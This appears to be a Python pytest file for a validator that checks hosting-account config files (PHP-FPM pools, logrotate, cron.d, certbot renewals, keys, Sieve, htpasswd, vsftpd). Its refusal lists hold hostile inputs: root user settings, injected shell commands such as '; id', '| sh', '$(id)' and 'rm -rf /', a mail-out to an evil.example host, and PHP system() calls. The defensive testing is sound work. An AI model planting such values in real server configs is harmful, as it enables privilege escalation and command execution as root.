"""Judges of pools, logrotate's files, keys, renewals, Sieve and tables: the ordinary ones pass, what reaches further
does not."""

from __future__ import annotations

import pytest

from include.agent.layouts.classic.places import kind_of

from .judged import WEB1, said
from .ordinary_files import (
    APACHE_LOGS,
    HOME,
    ISPCONFIG_POOL,
    KEY,
    OTHER_LOGS,
    RENEWS,
    WORDPRESS_POOL,
    logs,
    pool,
)

POOL, LOGS = "/etc/php/8.2/fpm/pool.d/web1.conf", "/etc/logrotate.d/web1"
RENEWAL = "/etc/letsencrypt/renewal/shop.example.conf"


@pytest.mark.parametrize("text", [ISPCONFIG_POOL, WORDPRESS_POOL])
def test_an_ordinary_pool_is_carried(text: str) -> None:
    assert said(POOL, text) == []


ATTACKS_BY_A_POOL = [
    "user = root",
    "user = neighbour",
    'user = "web1"0',
    "user = 0",
    "group = www-data",
    "group = shadow",
    "listen.owner = neighbour",
    "listen.acl_users = neighbour",
    "listen = /run/php/neighbour.sock",
    "listen = 127.0.0.1:9000",
    "listen = 9001",
    f"listen = {HOME}/web1.sock",
    "listen = /etc/cron.d/web1",
    "listen = /run/php/../systemd/web1.sock",
    "php_admin_value[open_basedir] = /home/neighbour",
    f"php_admin_value[open_basedir] = {HOME}/:/",
    f"php_admin_value[open_basedir] = {HOME}/../web2",
    f"php_admin_value[open_basedir] = {HOME}2",
    "php_admin_value[extension] = /tmp/x.so",
    "php_admin_value[auto_prepend_file] = /home/neighbour/x.php",
    'slowlog = "/var/log/web1.log\\"',
    "access.log = /etc/cron.d/x",
    "slowlog = /root/.ssh/web1",
    f"slowlog = {HOME}/slow.log",
    "access.log = /var/log/neighbour.log",
    "include = /etc/shadow",
    "chroot = /",
    "chdir = /home/neighbour",
    "prefix = /etc",
    "process.priority = -19",
    "pm.max_children = 100000",
    "listen.mode = 4777",
    "apparmor_hat = unconfined",
    "[global]\nerror_log = /etc/cron.d/x",
    "[www]\nuser = web1\nlisten = /run/php/web1-b.sock",
    "[neighbour]\nuser = web1\nlisten = /run/php/web1-b.sock",
    "[web1-b]\nlisten = /run/php/web1-b.sock",
    'env[X] = "\nuser = root\nenv[Y] = "',
    "env[X] = ${PATH}",
    "env[X] = a\\\nuser = root",
    "pm.status_listen = /run/php/neighbour.sock",
    "user = web1\ruser = root",
    "# user = root",
]


@pytest.mark.parametrize("more", ATTACKS_BY_A_POOL)
def test_a_pool_that_reaches_beyond_the_account_is_refused(more: str) -> None:
    assert said(POOL, pool("")) == []
    assert said(POOL, pool(more)), "it was let through"


def test_no_setting_stands_before_the_name_of_a_pool() -> None:
    assert said(POOL, "user = web1\n" + pool(""))


@pytest.mark.parametrize("text", [APACHE_LOGS, OTHER_LOGS])
def test_an_ordinary_file_of_logrotate_is_carried(text: str) -> None:
    assert said(LOGS, text) == []


ATTACKS_BY_LOGROTATE = [
    logs("prerotate\n/tmp/x\nendscript"),
    logs("postrotate\nsystemctl reload apache2; id\nendscript"),
    logs("postrotate\nsystemctl reload apache2 > /etc/cron.d/x\nendscript"),
    logs("postrotate\ninvoke-rc.d apache2 reload | sh\nendscript"),
    logs("postrotate\nif [ -x /tmp/x ]; then /tmp/x; fi\nendscript"),
    logs("firstaction\n$(id)\nendscript"),
    logs("lastaction\n`id`\nendscript"),
    logs("preremove\nrm -rf /\nendscript"),
    logs("postrotate /tmp/x"),
    logs("compresscmd /tmp/x"),
    logs("uncompresscmd /tmp/x"),
    logs("shred"),
    logs("mail root@evil.example"),
    logs("olddir /etc/cron.d"),
    logs("create 4755 root root"),
    logs("create 644 neighbour neighbour"),
    logs("compressext /../../etc/x"),
    logs("dateformat /../x"),
    logs("su root shadow"),
    logs("include /etc/x"),
    logs("", "/etc/shadow"),
    logs("", "/var/log/apache2/*.log"),
    logs("", "/var/log/apache2/web1*.log"),
    logs("", "/var/log/*/web1.log"),
    logs("", "/var/log/apache2/neighbour.log"),
    logs("", f"{HOME}/logs/*.log"),
    logs("su root root", f"{HOME}/logs/*.log"),
    logs("su web1 web1", f"{HOME}/../web2/*.log"),
    logs("", "/var/log/apache2/web1-x.log /etc/passwd"),
    "include /etc/x\n" + logs(""),
    "compresscmd /tmp/x\n" + logs(""),
    "su root root\n" + logs(""),
    logs("").replace("\n}\n", ""),
]


@pytest.mark.parametrize("text", ATTACKS_BY_LOGROTATE)
def test_what_logrotate_would_do_as_root_is_refused(text: str) -> None:
    assert said(LOGS, logs("")) == []
    assert said(LOGS, text), "it was let through"


CRON = "/etc/cron.d/web1_jobs"


@pytest.mark.parametrize(
    "text",
    [
        "*/5 * * * * web1 php /x\n",
        'SHELL=/bin/bash\nMAILTO = ""\n\n# each night\n30 2 1-7 jan,jul MON-FRI\tweb1\t/x % a=b\n@daily web1 y\n',
        "0-59/2 0,12 * * sun web1 a = b\n",
        "",
    ],
)
def test_a_file_of_crons_that_runs_as_the_account_is_carried(text: str) -> None:
    assert said(CRON, text or "\n") == []


@pytest.mark.parametrize(
    "text",
    [
        "* * * * * root /x\n",
        "* * * * * web1 /x\n* * * * * www-data /x\n",
        "* * * * * web2 /x\n",
        "* * * * * 0 /x\n",
        "*  *\t* * * root web1 /x\n",
        "* * * * *\u00a0web1 root /x\n",
        "* * * * *\x0bweb1 root /x\n",
        "* * * * * web1 /x\r* * * * * root /x\n",
        "-* * * * * web1 /x\n",
        "@daily root /x\n",
        "@every web1 /x\n",
        "@reboot web1 /x\n",
        "* * * * web1 /x\n",
        "a b=c\n",
        "* * * * * web1\n",
        "* * * * * web1 /x",
    ],
)
def test_what_cron_would_run_as_somebody_else_is_refused(text: str) -> None:
    assert said(CRON, text), "it was let through"


@pytest.mark.parametrize("path", ["/etc/cron.d/a.b", "/etc/cron.daily/web1", "/etc/crontab", "/etc/cron.d/x/web1"])
def test_cron_has_other_files_which_are_no_accounts(path: str) -> None:
    assert kind_of(path, WEB1) is None


def test_what_renews_a_certificate_is_carried() -> None:
    assert said(RENEWAL, RENEWS) == []


@pytest.mark.parametrize(
    "more",
    [
        "renew_hook = /tmp/x",
        "pre_hook = id",
        "post_hook = service apache2 reload",
        "deploy_hook = id",
        "manual_auth_hook = /tmp/x",
        "authenticator = manual",
        "dns_cloudflare_credentials = /root/cloudflare.ini",
        "privkey = /etc/shadow",
        "archive_dir = /etc/letsencrypt/archive/neighbour.example",
        "webroot_path = /home/neighbour,",
        f"webroot_path = {HOME}/../web2,",
        "server = https://acme.evil.example/directory",
        "config_dir = /tmp",
        "[[webroot_map]]\nneighbour.example = /var/www/html",
        "[[webroot_map]]\nshop.example = /etc",
        'key_type = """\nrsa',
        "[acme]",
    ],
)
def test_a_renewal_that_root_would_obey_is_refused(more: str) -> None:
    assert said(RENEWAL, RENEWS + more + "\n"), "it was let through"


DKIM = "/etc/opendkim/keys/shop.example/mail.private"


def test_keys_and_certificates_are_carried_alone() -> None:
    live = "/etc/letsencrypt/live/shop.example"
    certificate = KEY.replace("PRIVATE KEY", "CERTIFICATE")
    assert said(DKIM, KEY) == said(f"{live}/privkey.pem", KEY) == said(f"{live}/fullchain.pem", certificate * 2) == []
    for text in (
        "",
        certificate,
        "root:x:0:0\n",
        KEY + "ssh-rsa AAAA\n",
        KEY * 2,
        KEY.replace("-----END", "<?php\n-----END"),
    ):
        assert said(DKIM, text), text
    assert said(f"{live}/fullchain.pem", KEY)


SIEVE = "/var/vmail/shop.example/info/.dovecot.sieve"


def test_a_sieve_script_sorts_mail_and_starts_nothing() -> None:
    script = (
        'require ["fileinto", "vnd.dovecot.environment"];\nif header :contains "subject" "x" { fileinto "Junk"; }\n'
    )
    assert said(SIEVE, script) == []
    for name in (
        "vnd.dovecot.pipe",
        "vnd.dovecot.execute",
        "VND.dovecot.filter",
        "vnd\\.dovecot.pipe",
        "encoded-character",
    ):
        assert said(SIEVE, script.replace("vnd.dovecot.environment", name)), name


def test_tables_hold_what_they_are_for() -> None:
    passwords, ftp = "/etc/apache2/htpasswd/shop.example", "/etc/vsftpd/users/web1"
    assert said(passwords, "anna:$apr1$x$y\nbob:{SHA}abc=\nteam: anna bob\n") == []
    assert said(ftp, f"local_root={HOME}/web\nwrite_enable=YES\n") == []
    assert said(passwords, "x\n<?php system('id');\n")
    for line in (
        "local_root=/",
        f"local_root={HOME}/..",
        "guest_username=root",
        "chroot_local_user=NO",
        "cmds_allowed=X",
    ):
        assert said(ftp, line + "\n"), line
